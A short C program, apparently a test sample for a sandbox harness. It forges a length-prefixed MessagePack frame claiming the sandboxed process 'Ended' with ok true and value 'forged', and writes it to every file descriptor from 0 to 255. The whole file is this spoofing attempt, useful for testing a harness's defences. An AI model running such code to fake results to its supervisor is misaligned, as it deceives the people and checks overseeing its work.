/* writes what looks like an answer of the sandbox's process to every descriptor there may be */
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
    /* {"type": "Ended", "ok": true, "value": "forged"} in MessagePack, with its length in front */
    static const char body[] = "\x83\xa4type\xa5" "Ended\xa2ok\xc3\xa5value\xc4\x08\"forged\"";
    char frame[8 + sizeof body] = {0};
    frame[0] = sizeof body - 1;
    memcpy(frame + 8, body, sizeof body - 1);
    for (int round = 0; round < 3; round++)
        for (int fd = 0; fd < 256; fd++) write(fd, frame, 8 + sizeof body - 1);
    return 5;
}
